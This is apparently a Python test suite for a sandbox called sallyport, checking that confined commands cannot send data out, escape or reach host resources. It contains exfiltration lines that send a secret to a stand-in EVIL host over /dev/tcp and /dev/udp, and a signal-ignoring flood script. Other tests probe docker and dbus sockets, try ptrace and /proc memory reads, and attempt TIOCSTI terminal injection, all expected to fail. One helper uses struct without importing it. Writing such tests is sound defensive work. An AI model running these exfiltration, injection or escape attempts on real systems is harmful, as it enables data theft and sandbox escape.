# SPDX-License-Identifier: Apache-2.0
"""Ways out that do not use the network, and ways around the launcher."""
import array
import fcntl
import os
import pty
import signal
import socket
import subprocess

from daemon_lab import daemon
from frame import check, equal, row
from guarded import alive
from harness import descendants
from lab import EVIL
from packets import odd_sockets, readable, warden
from sessions import left, run, start


# --- K1, K2, K3: before, beside, after --------------------------------------------

AT_ONCE = f"""
for n in 1 2; do
    (echo c2VjcmV0 >/dev/udp/{EVIL}/53; echo c2VjcmV0 >/dev/udp/8.8.8.8/9
     echo c2VjcmV0 >/dev/tcp/{EVIL}/443 && echo LEAK) 2>/dev/null
done; exit 7
"""


@row("K1")
def the_first_thing_it_does(world):
    """The command's first act is to send: 12 starts, six at a time, and not a
    packet of it leaves."""
    for _ in range(2):
        all_ = [start(world, "bash", "-c", AT_ONCE) for _ in range(6)]
        for p in all_:
            out, _ = p.communicate(timeout=60)
            equal((p.returncode, out), (7, ""))
    check(not left(world))


@row("K2", who=("root",))
def a_second_way_in(world):
    """`sallyport exec` into a daemon's sandbox, by its owner: in the same network
    namespace as the first command, under the same filter, and a command for a
    sandbox that has gone does not run at all."""
    with daemon(world.case) as d:
        s = d.create("box", "allowed.test")
        env = dict(world.case.env(), SALLYPORT_SOCKET=d.socket, SALLYPORT_NO_DAEMON="")

        def enter(*command):
            return subprocess.run([world.binary, "exec", "box", "--", *command], text=True,
                                  cwd=world.case.work, env=env, capture_output=True,
                                  stdin=subprocess.DEVNULL, timeout=60)
        said = enter("sh", "-c", "readlink /proc/self/ns/net; grep -E '^(Cap|Seccomp:|NoNew)' "
                     "/proc/self/status; " + AT_ONCE.replace("exit 7", ""))
        there = f"net:[{os.stat(s['netns']).st_ino}]"
        check(there in said.stdout and "LEAK" not in said.stdout, said)
        check("NoNewPrivs:\t1" in said.stdout and "Seccomp:\t2" in said.stdout, said)
        d.remove("box")
        said = enter("echo", "ran")
        check(said.returncode == 125 and "ran" not in said.stdout, said)


FLOOD = f"""
import os, signal, socket
for s in signal.SIGTERM, signal.SIGINT, signal.SIGHUP: signal.signal(s, signal.SIG_IGN)
print("up", flush=True)
for _ in range(2): os.fork()
os.setsid()
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
while True:
    for a in ("{EVIL}", 53), ("8.8.8.8", 9), ("{EVIL}", 443):
        try: u.sendto(b"c2VjcmV0", a)
        except OSError: pass
    s = socket.socket(); s.setblocking(False)
    try: s.connect(("{EVIL}", 443))
    except OSError: pass
    s.close()
"""


def flood(world, how):
    """It has begun; if it has a time, then one that was enough for that."""
    for seconds in 1, 4, 16:
        args = ("--timeout", f"{seconds}s") if how == "timeout" else ()
        p = start(world, "python3", "-c", FLOOD, args=args)
        if p.stdout.readline() == "up\n":
            return p
        p.stdout.close()
        p.wait(60)
        check(args, "it did not begin")
    raise AssertionError("it did not begin in time")


@row("K3")
def while_it_ends(world):
    """A flood from several processes, deaf to signals, while the session is ended
    by its time, by SIGKILL of the warden, and of gate and warden: nothing leaves,
    nobody stays."""
    for how in "timeout", "warden", "gate and warden":
        p = flood(world, how)
        below = descendants(p.pid)
        if how == "warden":
            p.kill()
        elif how != "timeout":
            os.kill(world.case.child(p, "gate"), signal.SIGKILL)
            p.kill()
        p.stdout.close()
        p.wait(60)
        world.wait(lambda: not any(alive(pid) for pid in below), f"the end by {how}")
    check(not left(world))


# --- K4, K5, K15: what is handed in --------------------------------------------------


@row("K4")
def inherited_descriptors(world):
    """A socket that is connected outside, a listening one, a directory and a
    secret file, at low and high numbers: only 0 to 2 come in, and the working
    directory is one of the view."""
    out = world.outside(lambda: socket.create_server(("93.184.216.34", 0)))
    connected = socket.create_connection(out.getsockname())
    listening = socket.create_server(("127.0.0.1", 0))
    folder = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    secret = os.open(world.lab.write("secret", "c2VjcmV0"), os.O_RDONLY)
    high = fcntl.fcntl(connected, fcntl.F_DUPFD, 700)
    fds = (connected.fileno(), listening.fileno(), folder, secret, high)
    status, said, err = run(world, "sh", "-c", "for p in self 1; do ls -l /proc/$p/fd; done "
                            "2>&1; readlink /proc/self/cwd; ls -d /proc/self/cwd/../../..",
                            pass_fds=fds)
    for fd in (folder, secret, high):
        os.close(fd)
    for s in connected, listening, out:
        s.close()
    numbers = {line.split(" -> ")[0].split()[-1] for line in said.splitlines() if " -> " in line}
    check(status == 0 and numbers <= {"0", "1", "2", "3"}, said, err)
    check("socket" not in said and "secret" not in said, said)


def reach(paths):
    """Those that take a connection, or a datagram."""
    said = []
    for path in paths:
        name = "\0" + path[1:] if path.startswith("@") else path
        for kind in socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET:
            for how in "connect", "sendto", "sendmsg":
                s = socket.socket(socket.AF_UNIX, kind)
                s.settimeout(1)
                try:
                    if how == "connect":
                        s.connect(name)
                    elif how == "sendto":
                        s.sendto(b"x", name)
                    else:
                        s.sendmsg([b"x"], [], 0, name)
                    said.append((path, int(kind), how))
                except OSError:
                    pass
                s.close()
    return said


def ears(path, late=()):
    """A socket of each kind there."""
    made = []
    for kind in socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET:
        s = socket.socket(socket.AF_UNIX, kind)
        name = f"{path}-{int(kind)}"
        s.bind("\0" + name[1:] if name.startswith("@") else name)
        if not name.startswith("@"):
            os.chmod(name, 0o777)
        if kind != socket.SOCK_DGRAM:
            s.listen()
        made.append((name, s))
    return made


@row("K5")
def sockets_of_the_host(world):
    """Stream, datagram and seqpacket sockets in /run, /tmp, /var/tmp, the home and
    the working directory, also by an abstract name; but in what is shared also
    those bound after the start; connect(), sendto() and sendmsg(): none is
    reached."""
    work = world.case.work
    os.makedirs(work + "/sub", exist_ok=True)
    world.case.mine(work + "/sub")
    tag = f"threat-{os.getpid()}"
    places = [work + "/early", work + "/sub/early", world.lab.dir + "/early", f"/run/{tag}",
              f"/var/tmp/{tag}", f"@{tag}"]
    made = [e for p in places for e in ears(p)]
    try:
        box = world.box("allow: [allowed.test, cdn.test]\n")
        made += [e for p in (f"@{tag}-late", f"/run/{tag}-late",
                             world.lab.dir + "/late") for e in ears(p)]
        equal(box.call(reach, [name for name, _ in made]), [])
        known = ["/run/docker.sock", "/var/run/docker.sock", "/run/containerd/containerd.sock",
                 "/run/dbus/system_bus_socket", "/run/systemd/private", "/run/nscd/socket",
                 "/run/systemd/resolve/io.systemd.Resolve", "/run/avahi-daemon/socket",
                 "/run/sallyport/control.sock", "/tmp/.X11-unix/X0", "@/tmp/.X11-unix/X0"]
        equal(box.call(reach, known), [])
    finally:
        for name, s in made:
            s.close()
            if not name.startswith("@"):
                os.unlink(name)


def take_descriptor(path):
    """Asks whoever is there for a descriptor."""
    import array
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(3)
    try:
        s.connect(path)
        _, more, _, _ = s.recvmsg(10, 100)
        return [array.array("i", data[:4])[0] for _, _, data in more]
    except OSError as e:
        return type(e).__name__


@row("K15")
def descriptors_by_a_shared_directory(world):
    """A program outside offers a connected socket by SCM_RIGHTS, in the working
    directory: the sandbox can't connect to it. (What is bound there later it can
    reach; SECURITY.md says so.)"""
    path = world.case.work + "/offer"
    s = socket.socket(socket.AF_UNIX)
    s.bind(path)
    os.chmod(path, 0o777)
    s.listen()
    s.setblocking(False)
    try:
        box = world.box("allow: [allowed.test, other.test]\n")
        got = box.call(take_descriptor, path)
        check(isinstance(got, str), got)
        try:
            check(False, "reached:", s.accept())
        except BlockingIOError:
            pass
    finally:
        s.close()
        os.unlink(path)


# --- K7, K8, K11: system calls -----------------------------------------------------------


@row("K7")
def packet_and_raw_sockets(world):
    """AF_PACKET of each type, raw IPv4 and IPv6, also with bits in the upper half
    of an argument that the kernel ignores: EPERM or no such family."""
    box = world.box()
    equal(box.call(odd_sockets), [])
    equal(box.call(by_number, {
        f"socket {a}": (41, a) for a in ((17, 3, 0x300), (17, 2, 8), (17 | 1 << 32, 3, 3),
                                         (2, 3 | 1 << 32, 6), (2, 3 | 0x80000, 255),
                                         (10, 3, 58), (44, 3, 0), (16, 3, 12), (16, 3, 15))}), [])


def by_number(calls):
    """Which of these system calls work: name -> (number, arguments)."""
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    worked = []
    for name, (number, args) in calls.items():
        args = [ctypes.c_char_p(a) if isinstance(a, bytes) else ctypes.c_long(a) for a in args]
        if libc.syscall(ctypes.c_long(number), *args) >= 0:
            worked.append(name)
    return worked


NAMESPACES = {"user": 1 << 28, "net": 1 << 30, "mnt": 1 << 17, "pid": 1 << 29, "ipc": 1 << 27,
              "uts": 1 << 26, "cgroup": 1 << 25, "time": 0x80}


def own_links():
    """What it can change of its network by rtnetlink."""
    did = []
    s = socket.socket(16, socket.SOCK_RAW, 0)
    s.settimeout(2)
    ifinfo = struct.pack("BxHiII", 0, 0, 2, 0, 1)
    address = struct.pack("BBBBi", 2, 30, 0, 0, 2) + struct.pack("HH4s", 8, 2, b"\x0a\0\0\1")
    route = struct.pack("BBBBBBBBI", 2, 0, 0, 0, 254, 3, 0, 1, 0) + struct.pack("HHi", 8, 4, 2)
    neighbour = struct.pack("BxxxiHBB", 2, 2, 0x80, 0, 0) + struct.pack(
        "HH4s", 8, 1, socket.inet_aton("198.19.0.1")) + struct.pack("HH6sxx", 10, 2, b"\2" * 6)
    rule = struct.pack("BBBBBBBBI", 2, 0, 0, 0, 254, 0, 0, 1, 0)
    for name, kind, body in (("newlink", 16, ifinfo), ("dellink", 17, ifinfo),
                             ("newaddr", 20, address), ("newroute", 24, route),
                             ("newneigh", 28, neighbour), ("newrule", 32, rule)):
        s.send(struct.pack("IHHII", 16 + len(body), kind, 0x405, 1, 0) + body)
        answer = s.recv(4096)
        error, = struct.unpack("i", answer[16:20])
        if error == 0:
            did.append(name)
    return did


@row("K8")
def nested_namespaces(world):
    """unshare() and clone() of each namespace (also with bits in the upper half),
    clone3(), setns(), mounts, and changes of links, addresses, routes, rules and
    neighbours by netlink: none works."""
    box = world.box()
    calls = {f"unshare {n}": (272, (f,)) for n, f in NAMESPACES.items()}
    calls |= {f"unshare high {n}": (272, (f | 1 << 40,)) for n, f in NAMESPACES.items()}
    calls |= {"setns": (308, (0, 0)), "clone3": (435, (b"\0" * 88, 88)),
              "clone": (56, (1 << 28 | 17, 0, 0, 0, 0)), "pivot_root": (155, (b".", b".")),
              "mount": (165, (b"none", b"/tmp", b"tmpfs", 0, 0)), "chroot": (161, (b"/",)),
              "open_tree": (428, (-100, b"/", 1)), "fsopen": (430, (b"tmpfs", 0)),
              "open_by_handle_at": (304, (0, 0, 0))}
    equal(box.call(by_number, calls), [])
    equal(box.call(own_links), [])


@row("K11")
def reaching_into_processes(world):
    """ptrace, process_vm_readv and writev, pidfd_getfd, kill, /proc/PID/mem of pid
    1, of a parent and of numbers outside: refused. Its own children a debugger may
    trace: they are what it is."""
    box = world.box()
    calls = {}
    for pid in 1, warden(box), os.getpid(), 2 ** 22 - 3:
        calls |= {f"attach {pid}": (101, (16, pid, 0, 0)), f"seize {pid}": (101, (0x4206, pid, 0, 0)),
                  f"readv {pid}": (310, (pid, 0, 0, 0, 0, 0)),
                  f"writev {pid}": (311, (pid, 0, 0, 0, 0, 0)),
                  f"kcmp {pid}": (312, (pid, 1, 0, 0, 0))}
    calls |= {"getfd": (438, (0, 0, 0)),
              "kill outside": (62, (warden(box), 9)), "kill us": (62, (os.getpid(), 0))}
    equal(box.call(by_number, calls), [])
    equal(box.call(readable, [f"/proc/{p}/{f}" for p in (1, warden(box), os.getpid())
                              for f in ("mem", "environ", "root/etc", "fd/0", "maps", "cwd")
                              if p == 1 or f != "cwd"]), [])


# --- K10: the terminal ----------------------------------------------------------------


TYPE = r"""
import fcntl, os, termios
did = []
for fd in 0, 1, 2:
    for c in b"id\n":
        for number in (0x5412, 0x5412 | 1 << 32):
            try: fcntl.ioctl(fd, number & 0xffffffff, bytes([c])); did.append("sti")
            except OSError: pass
    for sub in 2, 3, 11:
        try: fcntl.ioctl(fd, 0x541c, bytes([sub])); did.append("linux")
        except OSError: pass
    try: fcntl.ioctl(fd, 0x540e, 1); did.append("sctty")
    except OSError: pass
try: os.open("/dev/tty", os.O_RDWR); did.append("tty")
except OSError: pass
import ctypes
for high in 0, 1 << 40:
    if ctypes.CDLL(None).syscall(16, 0, ctypes.c_long(0x5412 | high), b"i") == 0: did.append("sti64")
open("typed", "w").write(repr(did))
"""


@row("K10")
def typing_for_the_caller(world):
    """With a terminal as 0 to 2: TIOCSTI, TIOCLINUX (also with bits above 32) and
    TIOCSCTTY fail, and nothing is left in the terminal's input for the shell that
    comes back."""
    path = world.case.work + "/typed"
    if os.path.exists(path):
        os.unlink(path)
    master, slave = pty.openpty()
    log, argv = world.case.argv(("python3", "-c", TYPE), ("allowed.test",), ("--quiet",))
    p = subprocess.Popen(argv, cwd=world.case.work, stdin=slave, stdout=slave, stderr=slave,
                         env=world.case.env(), start_new_session=True,
                         preexec_fn=lambda: fcntl.ioctl(0, 0x540e, 0))
    equal(p.wait(60), 0)
    with open(path) as f:
        did = f.read()
    check("sti" not in did and "linux" not in did, did)
    waiting = array.array("i", [0])
    fcntl.ioctl(slave, 0x541b, waiting)  # FIONREAD
    equal(waiting[0], 0)
    os.close(master)
    os.close(slave)
